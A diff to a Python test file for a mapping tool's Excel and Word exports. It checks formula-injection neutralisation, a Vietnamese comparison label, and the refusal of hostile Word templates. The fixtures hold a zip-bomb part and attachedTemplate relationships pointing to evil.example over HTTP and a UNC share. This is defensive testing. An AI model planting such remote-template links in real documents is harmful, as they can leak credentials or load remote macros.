@@ -3,6 +3,7 @@
 import io
 import unicodedata
 import zipfile
+from dataclasses import replace
 
 import docx
 import numpy as np
@@ -16,7 +17,7 @@ from hypothesis import strategies as st
 from api.render import run_info, run_plan_layers, write_run_export
 from geo.errors import InputFileError
 from geo.workspace import Raster, Workspace
-from maps.escaping import spreadsheet_cell, spreadsheet_frame
+from maps.escaping import FORMULA_STARTS
 from maps.export import ExportRequest, write_export
 from maps.office import office_text
 from maps.templates.make_template import (
@@ -27,6 +28,7 @@ from maps.templates.make_template import (
     template_bytes,
 )
 from maps.xlsx import _fill
+from risk.compare import comparison_label
 from risk.pipeline import score_workspace, scored_communes
 from risk.plans.outreach import outreach_plan
 from risk.plans.patrol import patrol_plan
@@ -137,9 +139,12 @@ def test_xlsx_never_holds_a_formula_even_for_hostile_names(planned, run, scored,
         sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
         assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
     names = [r["Xã"] for r in sheet_rows(book.worksheets[0])]
+    assert names[0] == HOSTILE[0] and set(names) == set(HOSTILE)  # no literal apostrophe
+    column = [row[2] for row in book.worksheets[0].iter_rows(min_row=2)]  # "Xã"
+    assert {c.value for c in column} == set(HOSTILE)
+    assert all(c.data_type == "s" and c.quotePrefix for c in column)  # Excel: text as typed
     csv = csv_of(planned, run, hostile, tmp_path)
-    assert names == csv["commune_name"].tolist()  # neutralised as the CSV export does
-    assert names[0] == "'" + HOSTILE[0] and set(names) == {"'" + h for h in HOSTILE}
+    assert csv["commune_name"].tolist()[0] == "'" + HOSTILE[0]  # the CSV keeps its neutraliser
 
 
 def test_xlsx_keeps_vietnamese_nfc_and_survives_control_characters(planned, run, scored, tmp_path):
@@ -277,6 +282,21 @@ def test_docx_compares_with_the_previous_period_only_when_changes_are_present(
     assert "Compared with the previous period" in paragraphs(english, "Heading 1")
 
 
+def test_docx_says_what_it_compares_with_once_and_names_no_cli_flag(planned, run, scored, tmp_path):
+    info = replace(
+        run_info(run, load_profile("patrol"), lang="vi"),
+        comparison=comparison_label("d1854b4c", "2023-12", "vi"),
+    )
+    request = ExportRequest("docx", lang="vi", top=3)
+    path = write_export(tmp_path / "r.docx", with_changes(scored), {}, request=request, info=info)
+    doc = docx.Document(path)
+    text = "\n".join(p.text for p in doc.paragraphs)
+    cells = "\n".join(c.text for t in doc.tables for r in t.rows for c in r.cells)
+    assert "So với lần tính d1854b4c" in text
+    assert text.lower().count("so với lần tính") == 1 and "so với: so với" not in cells.lower()
+    assert "--format" not in text + cells and "tệp Excel (xlsx)" in text
+
+
 def test_docx_uses_a_province_template_even_a_dotx(planned, run, scored, tmp_path):
     """A .dotx saved by a Vietnamese Word: "Heading 1" keeps its name, its style id is local."""
     own = docx.Document()
@@ -363,15 +383,95 @@ def test_a_suppressed_export_through_the_workspace_reads_back(planned, tmp_path)
 def test_any_text_reads_back_as_text_never_a_formula(names):
     frame = pd.DataFrame({"commune_name": names})
     book = openpyxl.Workbook()
-    _fill(book.active, spreadsheet_frame(frame), "vi")
+    _fill(book.active, frame, "vi")
     buffer = io.BytesIO()
     book.save(buffer)
     sheet = openpyxl.load_workbook(buffer).active
     cells = [row[0] for row in sheet.iter_rows(min_row=2)]
     assert all(c.data_type != "f" for c in cells)
     for cell, name in zip(cells, names, strict=True):
-        shown = office_text(spreadsheet_cell(name))
+        shown = office_text(name)
         assert (cell.value or "") == shown  # an empty name is an empty cell
         assert unicodedata.is_normalized("NFC", shown)
+        assert bool(cell.quotePrefix) == shown.startswith(FORMULA_STARTS)
         if name and unicodedata.is_normalized("NFC", name) and name == office_text(name):
-            assert shown.removeprefix("'") == name  # typed text stays as typed
+            assert shown == name  # typed text stays as typed, no apostrophe added
+
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+SETTINGS_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
+    '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
+    f'Type="{REL}/attachedTemplate" Target="\\\\evil.example\\share\\t.dotm" '
+    'TargetMode="External"/></Relationships>'
+)
+
+
+def _hostile_template(path, *, edit=None, extra=()):
+    """Riskmap's own template with parts edited (``edit(name, bytes)``) or added."""
+    with zipfile.ZipFile(TEMPLATE) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            body = src.read(item)
+            dst.writestr(item.filename, edit(item.filename, body) if edit else body)
+        for name, body in extra:
+            dst.writestr(name, body)
+    return path
+
+
+def _bomb_rels(name, body):
+    if name == "word/_rels/document.xml.rels":
+        link = f'<Relationship Id="rIdBomb" Type="{REL}/image" Target="media/bomb.png"/>'
+        body = body.replace(b"</Relationships>", link.encode() + b"</Relationships>")
+    return body
+
+
+def _remote_document_rels(name, body):
+    if name == "word/_rels/document.xml.rels":
+        link = (
+            f'<Relationship Id="rIdX" Type="{REL}/attachedTemplate" '
+            'Target="http://evil.example/t.dotm" TargetMode="External"/>'
+        )
+        body = body.replace(b"</Relationships>", link.encode() + b"</Relationships>")
+    return body
+
+
+def _remote_settings(name, body):
+    if name == "word/settings.xml":
+        body = body.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
+    return body
+
+
+@pytest.mark.parametrize(
+    ("build", "reason"),
+    [
+        (
+            lambda p: _hostile_template(
+                p, edit=_bomb_rels, extra=[("word/media/bomb.png", b"\0" * 30_000_000)]
+            ),
+            "zip member .*bomb.png.* unpacks",
+        ),
+        (
+            lambda p: _hostile_template(p, edit=_remote_document_rels),
+            "links to something outside itself .*document.xml.rels",
+        ),
+        (
+            lambda p: _hostile_template(
+                p, edit=_remote_settings, extra=[("word/_rels/settings.xml.rels", SETTINGS_RELS)]
+            ),
+            "links to something outside itself .*settings.xml.rels",
+        ),
+    ],
+    ids=["zip-bomb-part", "remote-attached-template", "unc-attached-template-in-settings"],
+)
+def test_a_hostile_template_is_refused_naming_the_file(
+    planned, run, scored, tmp_path, build, reason
+):
+    template = build(tmp_path / "mau-bao-cao.docx")
+    out = tmp_path / "out"
+    out.mkdir()
+    info = run_info(run, load_profile("patrol"), lang="vi")
+    with pytest.raises(InputFileError, match=rf"^.*mau-bao-cao\.docx: .*{reason}"):
+        write_export(
+            out / "r.docx", scored, {}, request=ExportRequest("docx", template=template), info=info
+        )
+    assert not list(out.iterdir())  # nothing half-written
